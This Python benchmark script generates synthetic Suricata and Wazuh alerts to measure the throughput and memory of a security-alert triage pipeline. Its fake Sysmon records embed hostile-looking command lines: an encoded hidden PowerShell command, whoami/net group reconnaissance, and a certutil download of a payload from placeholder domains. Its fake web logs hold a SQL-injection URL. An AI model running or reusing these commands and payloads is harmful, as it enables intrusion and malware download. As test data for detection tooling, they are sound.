"""Reproducible throughput and memory benchmark of the tierzero pipeline.

What it measures (see ``benchmarks/README.md`` for how to read the figures):

1. **ingest + correlation** of N generated alerts (default N = 25,000, 50,000 and 100,000):
   Suricata EVE and Wazuh ``alerts.json`` lines, written to files exactly as those tools write
   them, read back through :func:`tierzero.usecases.triage.ingest` and then
   :func:`tierzero.usecases.triage.correlate` on a fresh SQLite store. Each stage runs in its own
   freshly spawned process so that its peak resident memory (``ru_maxrss``) is its own.
2. **the whole graph per case**: :func:`tierzero.usecases.triage.analyse` over the cases of the
   smallest run (an evenly spaced sample of at most ``--max-cases``), timed case by case.
3. **the bundled examples**: :func:`tierzero.usecases.triage.triage` on ``examples/`` with the
   bundled configuration, the same job as ``tierzero triage examples``.

The generated stream is deterministic for a seed and has a fixed arrival rate, so the first
25,000 alerts of the 100,000 run are exactly the 25,000 run: a larger N is a longer stream, not a
denser one. Linear time shows as a constant cost per alert across N; bounded memory as a peak
that stays flat.

Run ``python benchmarks/bench_pipeline.py --help`` for the options; results are printed as a
table and written to ``benchmarks/results/<UTC date and time>-<host>.json``.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import math
import multiprocessing
import os
import platform
import random
import re
import resource
import shutil
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import time
import tracemalloc
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from concurrent.futures import ProcessPoolExecutor
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import IO, Any, TypeVar

REPO = Path(__file__).resolve().parents[1]
if str(REPO) not in sys.path:  # run from a checkout without installing
    sys.path.insert(0, str(REPO))

from devtools.vendor_records.attack import Mitre  # noqa: E402
from devtools.vendor_records.common import eve_time  # noqa: E402
from devtools.vendor_records.suricata import eve_alert, eve_metadata  # noqa: E402
from devtools.vendor_records.wazuh import wazuh_record, wazuh_rule, windows_system  # noqa: E402

DEFAULT_SIZES = (25_000, 50_000, 100_000)
QUICK_SIZES = (2_000, 4_000)
DEFAULT_SEED = 20261109
DEFAULT_RATE = 1_400  # alerts per hour on average: 100,000 alerts span about three days
STREAM_START = datetime(2026, 11, 9, tzinfo=UTC)  # a Monday, 00:00 UTC
RESULTS = Path(__file__).resolve().parent / "results"
EXAMPLES = REPO / "examples"
EXAMPLES_NOW = datetime(2026, 11, 17, tzinfo=UTC)  # the day after the examples' story

T = TypeVar("T")


# =============================================================================================
# The synthetic alert stream
# =============================================================================================

_FIRST = tuple(
    "alice bob carol dave erin frank grace heidi ivan judy mallory niaj olivia peggy rupert sybil "
    "trent victor walter yusuf zoe amir bea chen".split()
)
_LAST = tuple(
    "martin nguyen diaz schmidt rossi kowalski okafor tanaka silva novak berg haddad moreau "
    "larsen costa fischer".split()
)
_DEPTS = tuple("FIN HR ENG OPS SAL MKT IT LEG".split())
_SERVER_ROLES = tuple("FS WEB APP DB SQL MAIL VPN BK".split())
_WORDS = tuple(
    "cdn update check secure login portal files sync cloud invoice billing docs mail track "
    "static api telemetry node".split()
)
_USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Microsoft-CryptoAPI/10.0",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.4391",
    "curl/8.5.0",
    "python-requests/2.32.3",
)


@dataclass(frozen=True)
class Host:
    """One machine of the generated company."""

    name: str
    ip: str
    owner: str
    server: bool


@dataclass(frozen=True)
class Population:
    """The entities alerts are about: a few hundred hosts, users, outside addresses, domains.

    Popularity is skewed (Zipf-like): a handful of hosts and addresses appear in many alerts,
    most in a few, as in a real SOC queue. A few names are those of the bundled inventory and
    threat intelligence, so enrichment and intel matching have something to find.
    """

    hosts: tuple[Host, ...]
    servers: tuple[Host, ...]
    users: tuple[str, ...]
    admins: tuple[str, ...]
    external_ips: tuple[str, ...]
    domains: tuple[str, ...]
    hashes: tuple[str, ...]
    scanner: Host

    @classmethod
    def build(cls, rng: random.Random, workstations: int = 320, servers: int = 48) -> Population:
        users = [f"{f}.{last}" for last in _LAST for f in _FIRST][:300]
        rng.shuffle(users)
        users = [
            "alice.martin",
            "bob.nguyen",
            "carol.diaz",
            *[u for u in users if u not in ("alice.martin", "bob.nguyen", "carol.diaz")],
        ][:300]
        admins = ["bob.nguyen", *users[3:14]]
        hosts = [
            Host("LT-FIN-042", "10.20.4.42", "alice.martin", False),
            Host("LT-IT-007", "10.20.6.7", "bob.nguyen", False),
        ]
        for i in range(workstations - len(hosts)):
            kind = "LT" if i % 3 else "DT"
            name = f"{kind}-{_DEPTS[i % len(_DEPTS)]}-{100 + i:03d}"
            hosts.append(Host(name, f"10.20.{10 + i // 200}.{10 + i % 200}", users[i % 300], False))
        server_hosts = [
            Host("SRV-FS-01", "10.10.1.15", "it-ops", True),
            Host("SRV-WEB-02", "10.10.1.22", "web-team", True),
            Host("SRV-APP-03", "10.10.1.33", "it-ops", True),
            Host("SRV-DB-01", "10.10.1.20", "finance-apps", True),
        ]
        for i in range(servers - len(server_hosts)):
            role = _SERVER_ROLES[i % len(_SERVER_ROLES)]
            server_hosts.append(
                Host(f"SRV-{role}-{10 + i:02d}", f"10.10.2.{10 + i}", "it-ops", True)
            )
        external = ["198.51.100.77", "198.51.100.23", "203.0.113.45"]
        pool = [
            f"{net}.{n}" for net in ("192.0.2", "198.51.100", "203.0.113") for n in range(1, 255)
        ]
        rng.shuffle(pool)
        external += [ip for ip in pool if ip not in external][:597]
        domains = ["cdn-update-check.example", "northwlnd-billing.example"]
        while len(domains) < 150:
            name = f"{rng.choice(_WORDS)}-{rng.choice(_WORDS)}{rng.randint(1, 99)}.example"
            if name not in domains:
                domains.append(name)
        hashes = ["5f4dcc3b5aa765d61d8327deb882cf99e4c8b1f3a1d2e3f40516273849aabbcc"]
        hashes += [f"{rng.getrandbits(256):064x}" for _ in range(149)]
        return cls(
            hosts=tuple(hosts),
            servers=tuple(server_hosts),
            users=tuple(users),
            admins=tuple(admins),
            external_ips=tuple(external),
            domains=tuple(domains),
            hashes=tuple(hashes),
            scanner=Host("SCAN-01", "10.0.5.10", "secops", True),
        )


@dataclass(frozen=True)
class Detection:
    """One rule of one product, and the shape of the alert it produces."""

    source: str  # "suricata" or "wazuh"
    kind: str  # the record template used (see _suricata_record / _wazuh_record)
    rule_id: str
    title: str
    level: int  # Suricata priority 1-3, or Wazuh rule level 0-16
    category: str = ""
    mitre: tuple[Mitre, ...] = ()  # names as this product spells them


# fmt: off
_MITRE: dict[str, tuple[Mitre, ...]] = {
    "c2": (Mitre("T1071", "Application_Layer_Protocol", "Command_And_Control"),),
    "exfil": (Mitre("T1041", "Exfiltration_Over_C2_Channel", "Exfiltration"),),
    "scan": (Mitre("T1595", "Active_Scanning", "Reconnaissance"),),
    "lateral": (Mitre("T1021", "Remote_Services", "Lateral_Movement"),),
    "dns": (Mitre("T1071.004", "DNS", "Command_And_Control"),),
    "bruteforce": (Mitre("T1110", "Brute Force", "Credential Access"),),
    "pth": (Mitre("T1550.002", "Pass the Hash", "Lateral Movement"),),
    "powershell": (Mitre("T1059.001", "PowerShell", "Execution"),),
    "certutil": (Mitre("T1105", "Ingress Tool Transfer", "Command and Control"),),
    "service": (Mitre("T1543.003", "Windows Service", "Persistence"),),
    "web": (Mitre("T1190", "Exploit Public-Facing Application", "Initial Access"),),
    "fim": (),
}

SURICATA_RULES = (
    Detection("suricata", "c2_tls", "2059412", "ET MALWARE Observed Malicious Domain in TLS SNI", 1,
              "Domain Observed Used for C2 Detected", _MITRE["c2"]),
    Detection("suricata", "c2_tls", "2033966", "ET JA3 Hash - Possible Malware - Cobalt Strike", 1,
              "Unknown Traffic", _MITRE["c2"]),
    Detection("suricata", "c2_tls", "2027758", "ET INFO Observed DNS over HTTPS Domain in TLS SNI",
              3, "Misc activity", ()),
    Detection("suricata", "http_out", "2061190", "ET POLICY Large HTTP POST to Suspicious Domain",
              1, "Potential Corporate Privacy Violation", _MITRE["exfil"]),
    Detection("suricata", "http_out", "2013028", "ET POLICY curl User-Agent Outbound", 3,
              "Attempted Information Leak", ()),
    Detection("suricata", "http_out", "2018959", "ET POLICY PE EXE or DLL Windows file download "
              "HTTP", 2, "Potential Corporate Privacy Violation", _MITRE["certutil"]),
    Detection("suricata", "http_out", "2016879", "ET INFO Python-requests User-Agent Outbound", 3,
              "Misc activity", ()),
    Detection("suricata", "scan_in", "2010937", "ET SCAN Suspicious inbound to mySQL port 3306", 2,
              "Potentially Bad Traffic", _MITRE["scan"]),
    Detection("suricata", "scan_in", "2010935", "ET SCAN Suspicious inbound to MSSQL port 1433", 2,
              "Potentially Bad Traffic", _MITRE["scan"]),
    Detection("suricata", "scan_in", "2001219", "ET SCAN Potential SSH Scan", 2,
              "Attempted Information Leak", _MITRE["scan"]),
    Detection("suricata", "scan_in", "2024897", "ET USER_AGENTS Go HTTP Client User-Agent", 3,
              "Misc activity", ()),
    Detection("suricata", "lateral_smb", "2027237", "ET POLICY PsExec service binary copied to "
              "ADMIN$ share over SMB2", 1, "Potential Corporate Privacy Violation",
              _MITRE["lateral"]),
    Detection("suricata", "lateral_smb", "2025701", "ET POLICY SMB2 NT Create AndX Request For an "
              "Executable File", 2, "Potentially Bad Traffic", _MITRE["lateral"]),
    Detection("suricata", "dns_bad", "2027863", "ET INFO Observed DNS Query to .example TLD", 3,
              "Potentially Bad Traffic", _MITRE["dns"]),
    Detection("suricata", "dns_bad", "2036502", "ET MALWARE Possible Malicious DNS Query", 1,
              "A Network Trojan was detected", _MITRE["dns"]),
    Detection("suricata", "internal_scan", "2009358", "ET SCAN Nmap Scripting Engine User-Agent "
              "Detected (Nmap Scripting Engine)", 1, "Web Application Attack", _MITRE["scan"]),
    Detection("suricata", "internal_scan", "2002910", "ET SCAN Potential VNC Scan 5800-5820", 2,
              "Attempted Information Leak", _MITRE["scan"]),
)

WAZUH_RULES = (
    Detection("wazuh", "win_logon_fail", "60122", "Logon Failure - Unknown user or bad password",
              5, "authentication_failed", _MITRE["bruteforce"]),
    Detection("wazuh", "win_logon_fail", "60204", "Multiple Windows Logon Failures", 10,
              "authentication_failures", _MITRE["bruteforce"]),
    Detection("wazuh", "win_logon_ok", "92652", "Successful Remote Logon Detected - NTLM "
              "authentication, possible pass-the-hash attack.", 6, "authentication_success",
              _MITRE["pth"]),
    Detection("wazuh", "win_logon_ok", "60106", "Windows Logon Success", 3,
              "authentication_success", ()),
    Detection("wazuh", "sysmon_proc", "92057", "Powershell.exe spawned a powershell process which "
              "executed a base64 encoded command", 12, "sysmon_eid1_detections",
              _MITRE["powershell"]),
    Detection("wazuh", "sysmon_proc", "92032", "Suspicious Windows cmd shell execution", 7,
              "sysmon_eid1_detections", _MITRE["powershell"]),
    Detection("wazuh", "sysmon_proc", "92041", "Certutil.exe used to download a file", 10,
              "sysmon_eid1_detections", _MITRE["certutil"]),
    Detection("wazuh", "service_install", "61138", "New Windows Service Created", 5,
              "windows_system", _MITRE["service"]),
    Detection("wazuh", "syscheck", "550", "Integrity checksum changed.", 7, "syscheck_file",
              _MITRE["fim"]),
    Detection("wazuh", "syscheck", "554", "File added to the system.", 5, "syscheck_file",
              _MITRE["fim"]),
    Detection("wazuh", "sshd_fail", "5710", "sshd: Attempt to login using a non-existent user", 5,
              "authentication_failed", _MITRE["bruteforce"]),
    Detection("wazuh", "sshd_fail", "5712", "sshd: brute force trying to get access to the "
              "system. Non existent user.", 10, "authentication_failures", _MITRE["bruteforce"]),
    Detection("wazuh", "web_attack", "31103", "SQL injection attempt.", 7, "web", _MITRE["web"]),
    Detection("wazuh", "web_attack", "31106", "A web attack returned code 200 (success).", 6,
              "web", _MITRE["web"]),
    Detection("wazuh", "web_attack", "31151", "Multiple web server 400 error codes from same "
              "source ip.", 10, "web", _MITRE["web"]),
)

# fmt: on

# Episode scenarios: (weight, detection kinds that may fire in it)
_SCENARIOS: tuple[tuple[float, tuple[str, ...]], ...] = (
    (0.18, ("c2_tls", "dns_bad", "http_out")),  # a workstation talks to something outside
    (0.14, ("sysmon_proc", "c2_tls", "http_out", "service_install")),  # malware on a host
    (0.14, ("win_logon_fail", "win_logon_ok")),  # logons to a server
    (0.08, ("lateral_smb", "win_logon_ok", "sysmon_proc")),  # lateral movement
    (0.16, ("scan_in", "sshd_fail", "web_attack")),  # internet noise against a server
    (0.06, ("internal_scan", "web_attack")),  # the approved scanner
    (0.12, ("syscheck", "service_install")),  # changes on a server
    (0.12, ("http_out", "dns_bad")),  # policy noise
)
_BY_KIND: dict[str, tuple[Detection, ...]] = {}
for _rule in (*SURICATA_RULES, *WAZUH_RULES):
    _BY_KIND[_rule.kind] = (*_BY_KIND.get(_rule.kind, ()), _rule)


@dataclass
class _Episode:
    """A burst of related alerts: the same few entities, a few detections, repeats."""

    detections: list[Detection]
    host: Host
    user: str
    server: Host
    external_ips: tuple[str, ...]  # each alert of the episode names one of these
    domains: tuple[str, ...]
    sha256: str
    ends: datetime
    remaining: int


def _cumulative_zipf(n: int, exponent: float) -> list[float]:
    total, out = 0.0, []
    for rank in range(1, n + 1):
        total += 1.0 / rank**exponent
        out.append(total)
    return out


class AlertStream:
    """A deterministic stream of Suricata and Wazuh alert records in (mostly) time order.

    Alerts arrive as a Poisson process at ``rate`` per hour (1.5x in 07:00-19:00 UTC, 0.5x at
    night), drawn from overlapping *episodes*: each names a host, a user, a server, one to four
    outside addresses and one to three domains, fires one to three detections, lasts from
    minutes to hours, and often repeats a detection on the same entities, so dedup has work to
    do (about half the alerts are repeats). A record's
    timestamp lags its place in the file by up to two minutes (sensor and shipping delay), so
    files are mildly out of order. The first N records never depend on how many follow.
    """

    def __init__(self, seed: int = DEFAULT_SEED, rate: float = DEFAULT_RATE) -> None:
        self.rng = random.Random(seed)
        self.population = Population.build(random.Random(seed ^ 0x5EED))
        self.rate = rate
        self._host_cw = _cumulative_zipf(len(self.population.hosts), 0.9)
        self._server_cw = _cumulative_zipf(len(self.population.servers), 0.8)
        self._ip_cw = _cumulative_zipf(len(self.population.external_ips), 0.7)
        self._domain_cw = _cumulative_zipf(len(self.population.domains), 0.7)
        self._hash_cw = _cumulative_zipf(len(self.population.hashes), 1.1)
        self._scenario_cw: list[float] = []
        total = 0.0
        for weight, _ in _SCENARIOS:
            total += weight
            self._scenario_cw.append(total)
        self._serial = 0
        machines = (*self.population.hosts, *self.population.servers)
        self._agent_no = {h.name: number for number, h in enumerate(machines, start=1)}

    def records(self, count: int) -> Iterator[tuple[str, datetime, dict[str, Any]]]:
        """Yield ``(source, record time, record)`` for ``count`` alerts."""
        rng = self.rng
        now = STREAM_START
        active: list[_Episode] = []
        for _ in range(count):
            hour = now.hour
            busy = 1.5 if 7 <= hour < 19 else 0.5  # averages to 1.0 over a day
            now += timedelta(seconds=rng.expovariate(self.rate * busy / 3600.0))
            active = [e for e in active if e.ends >= now and e.remaining > 0]
            if not active or rng.random() < 0.25:
                active.append(self._episode(now))
            episode = rng.choice(active)
            episode.remaining -= 1
            detection = rng.choice(episode.detections)
            lag = timedelta(seconds=rng.uniform(0, 120)) if rng.random() < 0.3 else timedelta()
            stamp = now - lag
            if detection.source == "suricata":
                yield "suricata", stamp, self._suricata_record(detection, episode, stamp)
            else:
                yield "wazuh", stamp, self._wazuh_record(detection, episode, stamp)

    # -- episodes ----------------------------------------------------------------------------

    def _episode(self, now: datetime) -> _Episode:
        rng, pop = self.rng, self.population
        (scenario,) = rng.choices(_SCENARIOS, cum_weights=self._scenario_cw)
        kinds = list(scenario[1])
        rng.shuffle(kinds)
        chosen = kinds[: rng.randint(1, min(3, len(kinds)))]
        detections = [rng.choice(_BY_KIND[k]) for k in chosen]
        (host,) = rng.choices(pop.hosts, cum_weights=self._host_cw)
        (server,) = rng.choices(pop.servers, cum_weights=self._server_cw)
        user = host.owner if rng.random() < 0.85 else rng.choice(pop.users)
        if any(d.kind in ("win_logon_ok", "lateral_smb") for d in detections):
            user = rng.choice(pop.admins) if rng.random() < 0.5 else user
        minutes = rng.choice((5, 15, 30, 60, 120, 240))
        return _Episode(
            detections=detections,
            host=host,
            user=user,
            server=server,
            external_ips=tuple(
                rng.choices(pop.external_ips, cum_weights=self._ip_cw, k=rng.randint(1, 4))
            ),
            domains=tuple(
                rng.choices(pop.domains, cum_weights=self._domain_cw, k=rng.randint(1, 3))
            ),
            sha256=rng.choices(pop.hashes, cum_weights=self._hash_cw)[0],
            ends=now + timedelta(minutes=minutes * rng.uniform(0.5, 1.5)),
            remaining=1 + int(rng.expovariate(1 / 4)),
        )

    # -- Suricata EVE ------------------------------------------------------------------------

    def _suricata_record(self, det: Detection, ep: _Episode, when: datetime) -> dict[str, Any]:
        rng = self.rng
        kind = det.kind
        external, domain = rng.choice(ep.external_ips), rng.choice(ep.domains)
        src, dst, dport, proto_app = ep.host.ip, external, 443, "tls"
        if kind == "http_out":
            dport, proto_app = 80, "http"
        elif kind == "scan_in":
            src, dst = external, ep.server.ip
            dport, proto_app = rng.choice((22, 1433, 3306, 3389, 8080)), ""
        elif kind == "lateral_smb":
            dst, dport, proto_app = ep.server.ip, 445, "smb"
        elif kind == "dns_bad":
            dst, dport, proto_app = "10.0.0.53", 53, "dns"
        elif kind == "internal_scan":
            src, dst = self.population.scanner.ip, ep.server.ip
            dport, proto_app = rng.choice((80, 443, 5800, 8443)), "http"
        meta = eve_metadata(
            ("Major", "Minor", "Informational")[det.level - 1],
            det.mitre,
            created="2024_05_02",
            updated="2026_10_30",
        )
        start = when - timedelta(milliseconds=rng.randint(1, 5000))
        flow_id, sport, rev = rng.getrandbits(51), rng.randint(1024, 65535), rng.randint(1, 9)
        extra: dict[str, Any] = {}
        if proto_app == "tls":
            ja3 = hashlib.md5(det.rule_id.encode(), usedforsecurity=False).hexdigest()
            extra["tls"] = {"sni": domain, "version": "TLS 1.2", "ja3": {"hash": ja3}}
        elif proto_app == "http":
            host = domain if kind == "http_out" else ep.server.ip
            extra["http"] = {
                "hostname": host,
                "url": f"/{rng.choice(_WORDS)}/{rng.randint(1, 99999)}",
                "http_user_agent": rng.choice(_USER_AGENTS),
                "http_method": "POST",
                "protocol": "HTTP/1.1",
                "status": rng.choice((200, 404)),
                "length": rng.randint(0, 5000),
            }
        elif proto_app == "dns":
            extra["dns"] = {
                "type": "query",
                "id": rng.randint(1, 65535),
                "rrname": domain,
                "rrtype": "A",
                "tx_id": 0,
            }
        elif proto_app == "smb":
            extra["smb"] = {
                "id": rng.randint(1, 50),
                "dialect": "3.1.1",
                "command": "SMB2_COMMAND_CREATE",
                "filename": "PSEXESVC.exe",
                "share": f"\\\\{ep.server.name}\\ADMIN$",
            }
        extra["flow"] = {
            "pkts_toserver": rng.randint(1, 5000),
            "pkts_toclient": rng.randint(1, 5000),
            "bytes_toserver": rng.randint(60, 10**7),
            "bytes_toclient": rng.randint(60, 10**6),
            "start": eve_time(start),
        }
        return eve_alert(
            when,
            flow_id=flow_id,
            src=src,
            sport=sport,
            dst=dst,
            dport=dport,
            sid=int(det.rule_id),
            rev=rev,
            signature=det.title,
            category=det.category,
            priority=det.level,
            metadata=meta,
            proto="UDP" if proto_app == "dns" else "TCP",
            app_proto=proto_app or None,
            extra=extra,
        )

    # -- Wazuh alerts.json -------------------------------------------------------------------

    def _wazuh_record(self, det: Detection, ep: _Episode, when: datetime) -> dict[str, Any]:
        rng = self.rng
        self._serial += 1
        kind = det.kind
        external, domain = rng.choice(ep.external_ips), rng.choice(ep.domains)
        on_server = kind in (
            "win_logon_fail",
            "win_logon_ok",
            "sshd_fail",
            "web_attack",
            "syscheck",
        ) or (kind == "service_install" and rng.random() < 0.5)
        agent_host = ep.server if on_server else ep.host
        if kind == "web_attack" and rng.random() < 0.3:
            agent_host = self.population.servers[1]  # the public web server takes most of it
        group = "windows" if kind.startswith(("win", "sysmon", "service")) else "ossec"
        rule = wazuh_rule(
            det.rule_id,
            det.level,
            det.title,
            [group, det.category],
            firedtimes=rng.randint(1, 40),
            mitre=det.mitre,
        )
        user = ep.user
        decoder = predecoder = syscheck = None
        data: dict[str, Any] | None = None
        location, full_log = "EventChannel", None
        if kind in ("win_logon_fail", "win_logon_ok"):
            event_id = "4625" if kind == "win_logon_fail" else "4624"
            data = {
                "win": {
                    "system": _win_system(
                        event_id, "Microsoft-Windows-Security-Auditing", agent_host.name, when, rng
                    ),
                    "eventdata": {
                        "targetUserName": user,
                        "targetDomainName": "NORTHWIND",
                        "logonType": rng.choice(("3", "10")),
                        "workstationName": ep.host.name,
                        "ipAddress": ep.host.ip,
                        "ipPort": str(rng.randint(1024, 65535)),
                        "authenticationPackageName": "NTLM",
                        "logonProcessName": "NtLmSsp",
                    },
                }
            }
        elif kind == "sysmon_proc":
            image, cmd = rng.choice(
                (
                    (
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                        "powershell.exe -nop -w hidden -enc "
                        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                    ),
                    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all & net group"),
                    (
                        "C:\\Windows\\System32\\certutil.exe",
                        f"certutil.exe -urlcache -split -f http://{domain}/a.bin a.exe",
                    ),
                )
            )
            data = {
                "win": {
                    "system": _win_system("1", "Microsoft-Windows-Sysmon", ep.host.name, when, rng),
                    "eventdata": {
                        "utcTime": when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                        "processId": str(rng.randint(100, 20000)),
                        "image": image,
                        "commandLine": cmd,
                        "user": f"NORTHWIND\\{user}",
                        "hashes": f"SHA256={ep.sha256.upper()}",
                        "parentImage": "C:\\Windows\\explorer.exe",
                        "parentProcessId": str(rng.randint(100, 20000)),
                        "parentCommandLine": "C:\\Windows\\Explorer.EXE",
                    },
                }
            }
        elif kind == "service_install":
            data = {
                "win": {
                    "system": _win_system(
                        "7045", "Service Control Manager", agent_host.name, when, rng
                    ),
                    "eventdata": {
                        "serviceName": f"svc{ep.sha256[:6]}",
                        "imagePath": f'"C:\\ProgramData\\{ep.sha256[:8]}\\svc.exe"',
                        "serviceType": "user mode service",
                        "startType": "auto start",
                        "accountName": "LocalSystem",
                    },
                }
            }
        elif kind == "syscheck":
            path = rng.choice(
                (
                    "/etc/passwd",
                    "/etc/ssh/sshd_config",
                    "/usr/bin/sudo",
                    "C:\\Windows\\System32\\drivers\\etc\\hosts",
                )
            )
            decoder = {"name": "syscheck_integrity_changed"}
            syscheck = {
                "path": path,
                "mode": "realtime",
                "event": "modified",
                "sha256_after": ep.sha256,
                "size_after": str(rng.randint(1, 10**5)),
            }
            location, full_log = "syscheck", f"File '{path}' modified"
        elif kind == "sshd_fail":
            name = rng.choice(("admin", "oracle", "test", "ubuntu", "deploy", "git"))
            port = rng.randint(1024, 65535)
            decoder = {"name": "sshd", "parent": "sshd"}
            predecoder = {"program_name": "sshd", "hostname": agent_host.name.lower()}
            data = {"srcip": external, "srcport": str(port), "srcuser": name}
            location = "/var/log/auth.log"
            full_log = (
                f"{when:%b %d %H:%M:%S} {agent_host.name.lower()} sshd[4242]: "
                f"Invalid user {name} from {external} port {port}"
            )
        else:  # web_attack
            src = external if rng.random() < 0.8 else self.population.scanner.ip
            url = f"/index.php?id={rng.randint(1, 999)}%27%20OR%201=1--"
            decoder = {"name": "web-accesslog"}
            data = {"protocol": "GET", "srcip": src, "id": "200", "url": url}
            location = "/var/log/nginx/access.log"
            full_log = (
                f'{src} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET {url} '
                'HTTP/1.1" 200 512 "-" "sqlmap/1.8"'
            )
        return wazuh_record(
            when,
            agent_id=f"{self._agent_no[agent_host.name]:03d}",
            agent_name=agent_host.name,
            agent_ip=agent_host.ip,
            alert_id=f"{int(when.timestamp())}.{self._serial}",
            rule=rule,
            location=location,
            decoder=decoder,
            predecoder=predecoder,
            data=data,
            syscheck=syscheck,
            full_log=full_log,
        )


def _win_system(
    event_id: str, provider: str, computer: str, when: datetime, rng: random.Random
) -> dict[str, Any]:
    """``data.win.system`` as the benchmark writes it: always the Security channel, level 0."""
    return windows_system(
        when,
        f"{computer}.northwind.example",
        provider=provider,
        event_id=event_id,
        channel="Security",
        record_id=str(rng.randint(10**5, 10**7)),
        severity="AUDIT_SUCCESS",
        level="0",
    )


@dataclass
class Dataset:
    """The generated files of one run, and what is in them."""

    folder: str
    alerts: int
    by_source: dict[str, int]
    files: int
    bytes: int
    sha256: str  # of every record in order: equal digests mean identical inputs
    first_time: str
    last_time: str
    out_of_order: int  # records older than one written before them in the same file
    seconds: float


def write_dataset(
    folder: Path,
    count: int,
    seed: int,
    rate: float,
    suffix: str = ".json",
    layout: str = "daily",
) -> Dataset:
    """Write ``count`` alerts as files laid out as the tools themselves write them.

    Suricata writes ``eve.json`` and Wazuh ``alerts.json``: both are JSON lines in a file named
    ``.json``. ``layout="daily"`` rotates them per day (``suricata/eve-2026-11-09.json``, the
    usual logrotate set-up); ``"single"`` writes one unrotated file per tool.
    """
    started = time.perf_counter()
    stream = AlertStream(seed, rate)
    handles: dict[Path, IO[str]] = {}
    latest: dict[Path, datetime] = {}
    digest = hashlib.sha256()
    by_source: Counter[str] = Counter()
    size = out_of_order = 0
    first = last = None
    try:
        for source, stamp, record in stream.records(count):
            name = "eve" if source == "suricata" else "alerts"
            day = f"-{stamp:%Y-%m-%d}" if layout == "daily" else ""
            path = folder / source / f"{name}{day}{suffix}"
            handle = handles.get(path)
            if handle is None:
                path.parent.mkdir(parents=True, exist_ok=True)
                handle = handles[path] = path.open("w", encoding="utf-8")
            line = json.dumps(record, separators=(",", ":")) + "\n"
            handle.write(line)
            digest.update(line.encode())
            size += len(line)
            by_source[source] += 1
            if path in latest and stamp < latest[path]:
                out_of_order += 1
            latest[path] = max(stamp, latest.get(path, stamp))
            first = stamp if first is None else min(first, stamp)
            last = stamp if last is None else max(last, stamp)
    finally:
        for handle in handles.values():
            handle.close()
    assert first is not None and last is not None
    return Dataset(
        folder=str(folder),
        alerts=count,
        by_source=dict(by_source),
        files=len(handles),
        bytes=size,
        sha256=digest.hexdigest(),
        first_time=first.isoformat(),
        last_time=last.isoformat(),
        out_of_order=out_of_order,
        seconds=time.perf_counter() - started,
    )


# =============================================================================================
# Measurements, each in a freshly spawned process
# =============================================================================================


def _rss_kib() -> int:
    """Current resident set size (KiB), from /proc; 0 where /proc is missing."""
    try:
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    except OSError:
        pass
    return 0


def _peak_rss_kib() -> int:
    """Peak resident set size of this process so far (KiB; macOS reports bytes)."""
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return peak // 1024 if sys.platform == "darwin" else peak


def _mib(kib: float) -> float:
    return kib / 1024


class _Sampler:
    """Samples memory (and optionally the correlator's index) at the pipeline's progress ticks."""

    def __init__(self, probe: Callable[[], int] | None = None) -> None:
        self.probe = probe
        self.samples: list[tuple[int, float, int, int | None]] = []  # (done, s, RSS KiB, probe)
        self.started = time.perf_counter()

    def __call__(self, stage: str, done: int, total: int | None) -> None:
        if stage in ("ingest", "correlate"):
            value = self.probe() if self.probe else None
            self.samples.append((done, time.perf_counter() - self.started, _rss_kib(), value))

    def thinned(self, points: int = 12) -> list[dict[str, float | int | None]]:
        """At most ``points`` evenly spaced samples, for the JSON result."""
        if not self.samples:
            return []
        step = max(1, math.ceil(len(self.samples) / points))
        picked = self.samples[step - 1 :: step]
        if picked[-1] is not self.samples[-1]:
            picked.append(self.samples[-1])
        return [
            {"done": d, "seconds": round(s, 3), "rss_mib": round(_mib(r), 1), "probe": p}
            for d, s, r, p in picked
        ]


def _stage_ingest(data_dir: str, db: str, now_iso: str, trace: bool) -> dict[str, Any]:
    """Child process: ``pipeline.ingest`` of a folder into a fresh store."""
    started = time.perf_counter()
    from tierzero.ingest.reader import IngestOptions
    from tierzero.store.sqlite import Store
    from tierzero.usecases import triage as pipeline

    import_seconds = time.perf_counter() - started
    store = Store(Path(db))
    baseline = _rss_kib()
    if trace:
        tracemalloc.start()
    sampler = _Sampler()
    wall = time.perf_counter()
    report = pipeline.ingest(
        [Path(data_dir)], store, IngestOptions(), datetime.fromisoformat(now_iso), sampler
    )
    wall = time.perf_counter() - wall
    heap_peak = tracemalloc.get_traced_memory()[1] if trace else None
    tracemalloc.stop()
    counts = store.counts()
    store.close()
    return {
        "seconds": report.seconds["ingest"],
        "wall_seconds": wall,
        "import_seconds": import_seconds,
        "files": report.files,
        "alerts_in": report.counts.alerts_in,
        "normalized": report.counts.normalized,
        "quarantined": report.counts.quarantined,
        "new_alerts": report.new_alerts,
        "stored_alerts": counts["alerts"],
        "by_source": dict(report.counts.by_source),
        "baseline_rss_mib": _mib(baseline),
        "peak_rss_mib": _mib(_peak_rss_kib()),
        "end_rss_mib": _mib(_rss_kib()),
        "heap_peak_mib": heap_peak / 2**20 if heap_peak is not None else None,
        "rss_samples": sampler.thinned(),
        "db_bytes": _db_bytes(Path(db)),
    }


def _stage_correlate(db: str, now_iso: str, trace: bool) -> dict[str, Any]:
    """Child process: ``pipeline.correlate`` of every stored alert, watching the correlator."""
    from tierzero.correlate.engine import Correlator
    from tierzero.settings import Settings
    from tierzero.store.sqlite import Store
    from tierzero.usecases import triage as pipeline

    settings = Settings.load()
    store = Store(Path(db))
    instances: list[Correlator] = []

    class WatchedCorrelator(Correlator):
        """The pipeline's correlator, remembered so its index can be read while it runs."""

        def __init__(self, *args: Any, **kwargs: Any) -> None:
            super().__init__(*args, **kwargs)
            instances.append(self)

    def probe() -> int:
        return instances[-1].open_entities if instances else 0

